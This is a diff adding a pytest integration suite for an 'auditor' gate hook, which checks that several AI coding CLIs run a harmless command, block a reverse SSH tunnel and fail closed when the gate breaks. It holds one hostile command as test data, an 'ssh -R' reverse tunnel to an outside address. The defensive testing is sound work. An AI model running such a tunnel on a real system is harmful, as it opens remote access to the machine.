@@ -1,0 +1,208 @@
+"""The gate in real CLIs: a harmless command runs, a reverse tunnel does not, nor anything while the gate fails."""
+
+from __future__ import annotations
+
+import contextlib
+import json
+import os
+import subprocess
+import sys
+from collections.abc import Callable, Iterator
+from dataclasses import dataclass, field
+from pathlib import Path
+
+import pytest
+
+from auditor.gate.hooks import HOOK_SECONDS, hooks_of
+from auditor.gate.install import install
+from tests.agents.conftest import AGENTS
+from tests.agents.model import PORT
+from tests.gate.test_client import BEHAVIOURS, Place, faked
+
+HERE = Path(__file__).parents[2]
+URL = f"http://127.0.0.1:{PORT}"
+SECONDS = 4
+
+
+@dataclass(frozen=True)
+class Cli:
+    """How one CLI is run offline. `settings` are files in its home; `project_hooks` where hooks go to the project."""
+
+    program: str
+    arguments: tuple[str, ...]
+    environment: dict[str, str]
+    settings: dict[str, str] = field(default_factory=dict)
+    project_hooks: bool = False
+
+
+CLIS = {
+    "claude": Cli(
+        "claude/lib/python3.11/site-packages/claude_agent_sdk/_bundled/claude",
+        ("-p", "go", "--output-format", "json", "--dangerously-skip-permissions"),
+        {
+            "ANTHROPIC_BASE_URL": URL, "ANTHROPIC_API_KEY": "x", "IS_SANDBOX": "1",
+            "CLAUDE_CODE_DISABLE_NONESSENTIAL_TRAFFIC": "1",
+        },
+    ),
+    "codex": Cli(
+        "node_modules/.bin/codex",
+        (
+            "exec", "--skip-git-repo-check", "--dangerously-bypass-approvals-and-sandbox",
+            "--dangerously-bypass-hook-trust", "go",
+        ),
+        {"MOCK_KEY": "x"},
+        {
+            ".codex/config.toml": f'model = "mock"\nmodel_provider = "mock"\n[model_providers.mock]\nname = "mock"\n'
+            f'base_url = "{URL}/v1"\nwire_api = "responses"\nenv_key = "MOCK_KEY"\n'
+        },
+    ),
+    "gemini": Cli(
+        "node_modules/.bin/gemini",
+        ("-m", "gemini-2.5-flash", "-p", "go", "--yolo", "-o", "json"),
+        {"GEMINI_API_KEY": "x", "GOOGLE_GEMINI_BASE_URL": URL, "GEMINI_CLI_TRUST_WORKSPACE": "true"},
+        {".gemini/settings.json": json.dumps({"security": {"auth": {"selectedType": "gemini-api-key"}}})},
+    ),
+    "qwen": Cli(
+        "node_modules/.bin/qwen",
+        ("-p", "go", "--yolo"),
+        {"OPENAI_API_KEY": "x", "OPENAI_BASE_URL": URL + "/v1", "OPENAI_MODEL": "mock"},
+        {".qwen/settings.json": json.dumps({"security": {"auth": {"selectedType": "openai"}}})},
+    ),
+    "copilot": Cli(
+        "node_modules/.bin/copilot",
+        ("-p", "go", "--allow-all-tools"),
+        {
+            "COPILOT_OFFLINE": "true", "COPILOT_PROVIDER_BASE_URL": URL + "/v1", "COPILOT_PROVIDER_API_KEY": "x",
+            "COPILOT_MODEL": "mock",
+        },
+    ),
+}  # fmt: skip
+
+
+@dataclass(frozen=True)
+class Outcome:
+    """What a run came to: whether the command ran, and what the model was told of it."""
+
+    is_run: bool
+    said: str
+    log: str
+
+
+class Bench:
+    """Runs one CLI in a directory of its own, with the gate's hook installed by `auditor install`'s own code."""
+
+    def __init__(self, name: str, place: Place, directory: Path, hook: Callable[[str], str] = str) -> None:
+        self.cli = CLIS[name]
+        self.home, self.work = directory / "home", directory / "work"
+        self.home.mkdir(parents=True)
+        self.work.mkdir()
+        for relative, content in self.cli.settings.items():
+            (self.home / relative).parent.mkdir(parents=True, exist_ok=True)
+            (self.home / relative).write_text(content, encoding="utf-8")
+        hooks = hooks_of(name)
+        assert hooks is not None
+        path = self.work / str(hooks.project) if self.cli.project_hooks else self.home / str(hooks.user)
+        assert install(hooks, path)
+        # some hosts clean the hook's environment, so what the test needs stands in the command itself
+        variables = " ".join(f"{key}={value}" for key, value in place.environment.items() if key != "HOME")
+        text = path.read_text(encoding="utf-8").replace(f"--timeout {HOOK_SECONDS}", f"--timeout {SECONDS}")
+        path.write_text(hook(text.replace(sys.executable, f"{variables} {sys.executable}")), encoding="utf-8")
+
+    def run(self, command: str) -> Outcome:
+        """Let the model ask for a command."""
+        marker = self.work / "marker"
+        program = AGENTS / self.cli.program
+        case = {
+            "argv": [str(program), *self.cli.arguments],
+            "environment": {"HOME": str(self.home), "PATH": os.environ["PATH"], "TERM": "dumb", **self.cli.environment},
+            "directory": str(self.work), "seconds": 90, "command": f"touch {marker}; {command}",
+        }  # fmt: skip
+        path = self.home.parent / "case.json"
+        path.write_text(json.dumps(case), encoding="utf-8")
+        done = subprocess.run(
+            ["unshare", "-n", sys.executable, "-m", "tests.agents.model", str(path)],
+            cwd=HERE, capture_output=True, text=True, timeout=150, check=False,
+        )  # fmt: skip
+        log = (self.work / "cli.out").read_text(encoding="utf-8", errors="replace") + done.stderr
+        said = json.loads(done.stdout)["said"] if done.stdout else []
+        return Outcome(marker.exists(), "\n".join(said), log[-3_000:])
+
+
+@pytest.fixture(scope="module")
+def served(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Place]:
+    """Give a place in which a server runs."""
+    found = Place(tmp_path_factory.mktemp("served"))
+    (found.directory / "home").mkdir()
+    assert found.hook(b'{"tool_name":"Bash","tool_input":{"command":"ls"}}', "60").status == 0
+    yield found
+    found.stop()
+
+
+each_cli = pytest.mark.parametrize("name", sorted(CLIS))
+pytestmark = [pytest.mark.slow, pytest.mark.timeout(240)]
+TUNNEL = "ssh -o ConnectTimeout=1 -N -R 2222:localhost:22 ops@203.0.113.5"
+
+
+def _need(name: str) -> None:
+    if not (AGENTS / CLIS[name].program).exists():
+        pytest.skip(f"{name} is not installed in {AGENTS}")
+
+
+@each_cli
+def test_a_harmless_command_runs(name: str, served: Place, tmp_path: Path) -> None:
+    _need(name)
+    outcome = Bench(name, served, tmp_path).run("echo harmless")
+    assert outcome.is_run, outcome
+    assert "auditor" not in outcome.said
+
+
+@each_cli
+def test_a_reverse_tunnel_does_not_and_the_model_is_told_why(name: str, served: Place, tmp_path: Path) -> None:
+    _need(name)
+    outcome = Bench(name, served, tmp_path).run(TUNNEL)
+    assert not outcome.is_run, outcome
+    assert "ssh-reverse-forward" in outcome.said, outcome
+
+
+FAULTS = {"hangs": "hangs", "is killed in the middle": "closes after the request", "answers garbage": "answers garbage"}
+
+
+@each_cli
+@pytest.mark.parametrize("fault", sorted(FAULTS))
+def test_nothing_runs_when_the_server_fails(name: str, fault: str, tmp_path: Path) -> None:
+    _need(name)
+    place = Place(tmp_path / "place")
+    place.directory.mkdir()
+    with faked(place, BEHAVIOURS[FAULTS[fault]]):
+        outcome = Bench(name, place, tmp_path / "run").run("true")
+    assert not outcome.is_run, outcome
+
+
+@each_cli
+def test_nothing_runs_when_no_server_can_start(name: str, tmp_path: Path) -> None:
+    _need(name)
+    place = Place(tmp_path / "place")
+    place.directory.mkdir()
+    place.runtime.write_text("a file stands here", encoding="utf-8")
+    assert not Bench(name, place, tmp_path / "run").run("true").is_run
+
+
+@each_cli
+def test_nothing_runs_when_the_hooks_program_is_gone(name: str, served: Place, tmp_path: Path) -> None:
+    _need(name)
+    bench = Bench(name, served, tmp_path, lambda text: text.replace(sys.executable, "/nowhere/python"))
+    assert not bench.run("true").is_run
+
+
+@each_cli
+def test_the_block_holds_when_the_disk_is_full(name: str, tmp_path: Path) -> None:
+    _need(name)
+    place = Place(tmp_path / "place")
+    (place.directory / "home").mkdir(parents=True)
+    (place.directory / "home" / "state").symlink_to("/dev/full")
+    try:
+        assert place.hook(b'{"tool_name":"Bash","tool_input":{"command":"ls"}}', "60").status == 0
+        assert not Bench(name, place, tmp_path / "run").run(TUNNEL).is_run
+    finally:
+        with contextlib.suppress(OSError):
+            place.stop()
